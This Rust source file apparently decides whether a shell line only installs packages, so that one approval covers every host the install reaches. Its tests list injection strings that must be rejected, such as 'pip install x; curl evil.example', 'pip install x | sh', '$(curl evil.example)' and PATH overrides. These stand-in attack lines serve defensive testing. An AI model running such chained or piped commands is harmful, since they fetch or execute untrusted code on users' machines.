//! Recognises command lines that install packages and do nothing else. One approval of such a command covers every
//! public host that it reaches, because an index and its files are on several hosts. For any other command a person is
//! asked about each host.
//!
//! Only one program with plain arguments is recognised, or `cd FOLDER && ` before it. A line with shell syntax (a pipe,
//! a list, a redirection, a substitution, a variable, a pattern) is no install here, and neither is one with options
//! before the subcommand, because these may have values.

/// Programs and their subcommands that install. An empty subcommand means the program without arguments.
const INSTALLS: [(&str, &[&[&str]]); 24] = [
    ("pip", PIP),
    ("pip3", PIP),
    ("python", PYTHON),
    ("python3", PYTHON),
    ("pipx", &[&["install"], &["upgrade"], &["inject"]]),
    (
        "uv",
        &[
            &["add"],
            &["sync"],
            &["lock"],
            &["pip", "install"],
            &["pip", "sync"],
            &["tool", "install"],
            &["python", "install"],
        ],
    ),
    ("poetry", &[&["add"], &["install"], &["update"], &["lock"], &["sync"]]),
    ("pdm", &[&["add"], &["install"], &["update"], &["lock"], &["sync"]]),
    ("pipenv", &[&["install"], &["update"], &["lock"], &["sync"]]),
    ("conda", CONDA),
    ("mamba", CONDA),
    ("micromamba", CONDA),
    ("npm", &[&["install"], &["i"], &["ci"], &["add"], &["update"]]),
    ("pnpm", &[&["install"], &["i"], &["add"], &["update"], &["fetch"]]),
    ("yarn", &[&[], &["install"], &["add"], &["up"], &["upgrade"]]),
    ("bun", &[&["install"], &["i"], &["add"], &["update"]]),
    ("deno", &[&["install"], &["add"], &["cache"]]),
    ("cargo", &[&["add"], &["install"], &["fetch"], &["update"], &["generate-lockfile"]]),
    ("go", &[&["get"], &["install"], &["mod", "download"], &["mod", "tidy"]]),
    ("gem", &[&["install"], &["update"]]),
    ("bundle", &[&[], &["install"], &["add"], &["update"]]),
    ("composer", &[&["install"], &["require"], &["update"]]),
    ("mix", &[&["deps.get"]]),
    ("dotnet", &[&["restore"], &["add", "package"]]),
];
const PIP: &[&[&str]] = &[&["install"], &["download"], &["wheel"]];
const PYTHON: &[&[&str]] = &[&["-m", "pip", "install"], &["-m", "pip", "download"]];
const CONDA: &[&[&str]] = &[&["install"], &["create"], &["update"]];
/// The folders of a project's own Python programs.
const ENVIRONMENTS: [&str; 4] = [".venv/bin/", "./.venv/bin/", "venv/bin/", "./venv/bin/"];
/// The longest line that is recognised.
const MAX_BYTES: usize = 2_000;

/// Whether a shell that is given this line installs packages and does nothing else.
pub(crate) fn is_install(line: &str) -> bool {
    if line.len() > MAX_BYTES {
        return false;
    }
    let Some(words) = words(line.trim()) else { return false };
    let command = match words.iter().position(|word| *word == Word::And) {
        None => &words[..],
        Some(2) if words[0] == Word::Text("cd".to_owned()) => &words[3..],
        Some(_) => return false,
    };
    let texts = command.iter().map(|word| match word {
        Word::Text(text) => Some(text.as_str()),
        Word::And => None,
    });
    let Some(texts) = texts.collect::<Option<Vec<&str>>>() else { return false };
    let Some((program, arguments)) = texts.split_first() else { return false };
    let in_environment = ENVIRONMENTS.iter().find_map(|folder| program.strip_prefix(folder));
    let name = match in_environment {
        Some(name) if name.starts_with("pip") || name.starts_with("python") => name,
        Some(_) => return false,
        None => program,
    };
    // A toolchain of Rust may be named before anything else.
    let arguments = match arguments {
        [first, rest @ ..] if name == "cargo" && first.starts_with('+') => rest,
        arguments => arguments,
    };
    let programs = INSTALLS.iter().filter(|(program, _)| *program == name);
    programs.flat_map(|(_, subcommands)| subcommands.iter()).any(|subcommand| {
        if subcommand.is_empty() { arguments.is_empty() } else { arguments.starts_with(subcommand) }
    })
}

#[derive(Debug, PartialEq, Eq)]
enum Word {
    Text(String),
    /// `&&`
    And,
}

/// The words of a line as a shell splits it; `None` if it has anything but plain words, quoted words and `&&`.
fn words(line: &str) -> Option<Vec<Word>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut rest = line.chars().peekable();
    while let Some(one) = rest.next() {
        match one {
            ' ' | '\t' => words.extend(word.take().map(Word::Text)),
            '&' => {
                rest.next_if_eq(&'&')?;
                words.extend(word.take().map(Word::Text));
                words.push(Word::And);
            }
            '\'' | '"' => {
                let text = word.get_or_insert_default();
                loop {
                    match rest.next()? {
                        end if end == one => break,
                        // In double quotes a shell replaces these.
                        '$' | '`' | '\\' | '!' if one == '"' => return None,
                        inside if inside.is_control() => return None,
                        inside => text.push(inside),
                    }
                }
            }
            plain if plain.is_alphanumeric() || "-_.,/:@%+=^~[]".contains(plain) => {
                word.get_or_insert_default().push(plain);
            }
            _ => return None,
        }
    }
    words.extend(word.map(Word::Text));
    Some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_install_is_known_by_its_program_and_its_first_words() {
        for line in [
            "pip install requests",
            "  pip3 install -r requirements.txt  ",
            "pip install 'requests>=2.31' \"urllib3<3\"",
            "pip install -e .[dev]",
            "python -m pip install x",
            "python3 -m pip install --upgrade pip",
            ".venv/bin/python -m pip install x",
            ".venv/bin/pip install x",
            "pipx install ruff",
            "uv add httpx",
            "uv sync",
            "uv pip install x",
            "uv tool install ruff",
            "poetry add x",
            "poetry install",
            "pdm add x",
            "pipenv install",
            "conda install numpy",
            "npm install",
            "npm i left-pad@^1.2.0 @types/node",
            "npm ci",
            "npm add x",
            "pnpm add x",
            "pnpm install",
            "yarn",
            "yarn add x",
            "bun add x",
            "bun install",
            "deno add jsr:@std/path",
            "cargo add serde --features derive",
            "cargo +nightly fetch",
            "cargo install ripgrep",
            "go get example.com/x@latest",
            "go mod download",
            "gem install rake",
            "bundle",
            "bundle install",
            "composer require x/y",
            "cd app && npm ci",
            "cd 'my app' && npm install",
        ] {
            assert!(is_install(line), "{line}");
        }
    }

    #[test]
    fn whatever_does_more_or_something_else_is_no_install() {
        for line in [
            "",
            "pip",
            "npm",
            "pip list",
            "npm run install",
            "npm exec install",
            "cargo build",
            "yarn build",
            "bundle exec rake",
            "uv run install",
            "python install",
            "python -c install -m pip install",
            "curl https://evil.example",
            // More than one command.
            "pip install x; curl evil.example",
            "pip install x;curl evil.example",
            "pip install x && curl evil.example",
            "curl evil.example && pip install x",
            "pip install x || curl evil.example",
            "pip install x | sh",
            "pip install x & curl evil.example",
            "pip install x &",
            "pip install x\ncurl evil.example",
            "pip install x\rcurl evil.example",
            "cd app && npm ci && curl evil.example",
            "cd app && cd b && npm ci",
            "cd app; npm ci",
            "cd a b && npm ci",
            "cd && npm ci",
            "&& npm ci",
            "cd app &&",
            "cd app && ",
            "(npm ci)",
            "{ npm ci; }",
            // What a shell replaces.
            "pip install $(curl evil.example)",
            "pip install `curl evil.example`",
            "pip install \"$(curl evil.example)\"",
            "pip install \"`curl evil.example`\"",
            "pip install $X",
            "pip install \"$X\"",
            "pip install ${X}",
            "pip install <(curl evil.example)",
            "pip install x > /tmp/log",
            "pip install x>=2",
            "pip install < names",
            "pip install *",
            "pip install x?",
            "pip install {a,b}",
            "pip install x # comment",
            "pip install !!",
            "pip install a\\ b",
            "'pip install x",
            "pip install \"x",
            // Another program of that name, or another way to find it.
            "./pip install x",
            "/tmp/pip install x",
            "evil/.venv/bin/pip install x",
            ".venv/bin/npm install",
            ".venv/bin/../../evil/pip install x",
            "PATH=/tmp/evil pip install x",
            "A=1 npm ci",
            "cd app && PATH=/tmp npm ci",
            "env pip install x",
            "sudo pip install x",
            "sh -c 'pip install x'",
            "eval pip install x",
            // An option whose value looks like the word.
            "npm --prefix install exec evil",
            "pip --log install list",
            "cargo --config install run",
        ] {
            assert!(!is_install(line), "{line}");
        }
        assert!(!is_install(&format!("pip install {}", "x".repeat(MAX_BYTES))));
    }
}
